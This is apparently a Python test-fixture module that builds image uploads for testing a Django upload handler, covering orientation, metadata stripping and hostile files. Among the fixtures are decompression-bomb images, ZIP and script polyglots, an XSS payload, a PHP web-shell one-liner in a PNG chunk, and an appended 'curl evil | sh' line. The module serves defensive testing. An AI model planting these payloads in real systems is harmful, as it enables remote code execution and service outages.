"""Uploads made in code: honest ones, and everything people have tried instead."""

import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, ImageCms, PngImagePlugin

CANARY = b"GPS-CANARY-23.8103N-90.4125E"


def picture(size=(400, 300), mode="RGB", fmt="PNG", color=None, **save):
    """Return the bytes of a plain picture."""
    image = Image.new(
        mode, size, color if color is not None else {"L": 120, "P": 3, "CMYK": (0, 255, 255, 0)}.get(mode, 0)
    )
    return encode(image, fmt, **save)


def encode(image, fmt, **save):
    out = io.BytesIO()
    image.save(out, fmt, **save)
    return out.getvalue()


def halves(size=(400, 200), left="#ff0000", right="#0000ff", fmt="PNG", **save):
    """Return a picture whose left half and right half differ, to see crops and turns."""
    image = Image.new("RGB", size, left)
    image.paste(right, (size[0] // 2, 0, *size))
    return encode(image, fmt, **save)


def chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_claiming(width, height):
    """Return a small PNG whose header claims a huge canvas (a decompression bomb)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * 200_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def webp_claiming(width, height):
    """Return an extended WebP whose canvas is huge; opening it in a decoder would already allocate it."""
    inner = picture((100, 100), fmt="WEBP", lossless=True)[12:]
    canvas = b"\0\0\0\0" + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBP" + b"VP8X" + struct.pack("<I", 10) + canvas + inner
    return b"RIFF" + struct.pack("<I", len(body)) + body


def jpeg_claiming(width, height):
    """Return a small JPEG whose frame header claims a huge picture."""
    data = bytearray(picture(fmt="JPEG"))
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def jpeg_with_scans(scans):
    data = picture(fmt="JPEG")
    start = data.index(b"\xff\xda")
    return data[:start] + data[start:-2] * scans + data[-2:]


def zipped():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("index.html", "<b>hello</b>")
    return out.getvalue()


def png_with_zip():
    return picture() + zipped()


def jpeg_with_zip():
    return picture(fmt="JPEG") + zipped()


def jpeg_with_script():
    return picture(fmt="JPEG", comment=b"<ScRiPt>alert(document.cookie)</sCrIpT>")


def png_with_php():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<?php system($_GET['c']); ?>")
    return picture(pnginfo=info)


def png_with_pdf_inside():
    data = picture()
    return data[:33] + chunk(b"teXt", b"%PDF-1.7 hidden") + data[33:]


def webp_with_rest():
    return picture(fmt="WEBP") + b"#!/bin/sh\ncurl evil | sh\n"


def gif_with_js():
    data = bytearray(picture((60, 60), mode="P", fmt="GIF"))
    return bytes(data) + b"/*=1;*/alert(1)//"


def animated(fmt):
    frames = [Image.new("RGB", (200, 200), color) for color in ("red", "green", "blue")]
    out = io.BytesIO()
    frames[0].save(out, fmt, save_all=True, append_images=frames[1:], duration=80)
    return out.getvalue()


def jpeg_with_position(**extra):
    """Return a JPEG that carries a GPS position, a maker's note, XMP, a comment and a thumbnail's worth of canaries."""
    exif = Image.Exif()
    exif[0x010E] = CANARY.decode()  # description
    exif.get_ifd(0x8825).update({1: "N", 2: (23.0, 48.0, 37.0), 3: "E", 4: (90.0, 24.0, 45.0)})
    exif.get_ifd(0x8769)[0x927C] = CANARY
    for tag, value in extra.items():
        exif[int(tag.removeprefix("tag"))] = value
    return picture(fmt="JPEG", exif=exif, comment=CANARY, xmp=b"<x:xmpmeta>" + CANARY + b"</x:xmpmeta>")


def turned(orientation, fmt="JPEG"):
    """Return red on the left, blue on the right as stored, with an EXIF orientation."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    return halves(fmt=fmt, exif=exif, quality=95)


def grey_16_bit():
    image = Image.new("I;16", (200, 200))
    image.putdata([32768] * 40_000)
    return encode(image, "PNG")


def palette_with_transparency():
    image = Image.new("P", (200, 200), 1)
    image.putpalette([255, 0, 0, 0, 255, 0] + [0] * 750)
    image.paste(0, (0, 0, 100, 200))
    return encode(image, "PNG", transparency=0)


def with_profile(fmt="JPEG"):
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return picture(fmt=fmt, icc_profile=profile + b"")


def as_file(content, name):
    """Return bytes as an upload with a name of its own."""
    return SimpleUploadedFile(name, content, content_type="image/png")
